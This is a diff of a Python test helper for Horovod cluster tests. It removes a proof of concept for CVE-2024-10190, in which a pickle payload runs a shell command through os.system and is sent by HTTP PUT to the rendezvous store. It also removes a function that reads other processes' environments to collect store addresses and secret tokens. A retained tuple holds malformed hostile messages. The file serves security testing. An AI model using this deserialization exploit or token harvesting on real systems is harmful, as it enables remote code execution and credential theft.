@@ -1,21 +1,11 @@
-"""Somebody in the network who knows an address and a port of a job, and no secret (CVE-2024-10190).
+"""Whoever listens of a job, and what somebody in the network who knows an address and a port may say to it."""
 
-python -m tests.cluster.stranger put ADDRESS PORT FILE     asks the store there to create FILE; prints the HTTP status
-python -m tests.cluster.stranger look                      prints what a user of this host can see of an elastic job
-"""
-
-import base64
 import contextlib
-import http.client
-import json
 import os
-import pickle
 import random
 import socket
 import struct
-import sys
 from pathlib import Path
-from typing import Any
 
 import psutil
 
@@ -39,49 +29,6 @@ HOSTILE = (
     struct.pack("=32si", bytes(32), 2**31 - 1) + bytes(8192),  # a message of Horovod's services, of 2 GB
     random.Random(0).randbytes(8192),
 )
-
-
-class CreatesFile:
-    """As a pickle: the command that creates the file."""
-
-    def __init__(self, path: Path):
-        self.path = path
-
-    def __reduce__(self):
-        return os.system, (f"touch {self.path}",)
-
-
-def exploit(path: Path) -> bytes:
-    """What creates the file where released Horovod 0.28.1 reads it."""
-    return base64.b64encode(pickle.dumps(CreatesFile(path)))
-
-
-def put_exploit(address: str, port: int, path: Path, headers: dict[str, str] | None = None) -> int:
-    """The status of the answer."""
-    connection = http.client.HTTPConnection(address, port, timeout=10)
-    connection.request("PUT", "/worker_addresses/stranger:0", exploit(path), headers or {})
-    return connection.getresponse().status
-
-
-def look() -> dict[str, Any]:
-    """store: of a process that trains, from its environment (which only its own user sees). tokens: of all processes.
-    listening, words: every user's to see, in /proc."""
-    environs, words = [], set()
-    for process in psutil.process_iter():
-        try:
-            environs.append(process.environ())
-            words.update(process.cmdline())
-        except (psutil.NoSuchProcess, psutil.AccessDenied):
-            continue
-    stores = {
-        (e["HOROVOD_GLOO_RENDEZVOUS_ADDR"], e["HOROVOD_GLOO_RENDEZVOUS_PORT"]) for e in environs if "HOROVOD_RANK" in e
-    }
-    return {
-        "stores": sorted(stores),
-        "tokens": sorted({e["_HOROVOD_STORE_TOKEN"] for e in environs if "_HOROVOD_STORE_TOKEN" in e}),
-        "listening": [c.laddr for c in psutil.net_connections("tcp") if c.status == psutil.CONN_LISTEN],
-        "words": sorted(words),
-    }
 
 
 def listeners(host: int, of: str) -> set[tuple[str, str, int]]:
@@ -125,10 +72,3 @@ def _what(words: list[str], environ: dict[str, str]) -> str:
         if name in environ:
             return "rank 0" if environ[name] == "0" else "other ranks"
     return " ".join(words)[:80]
-
-
-if __name__ == "__main__":
-    if sys.argv[1] == "look":
-        print(json.dumps(look()))
-    else:
-        print(put_exploit(sys.argv[2], int(sys.argv[3]), Path(sys.argv[4])))
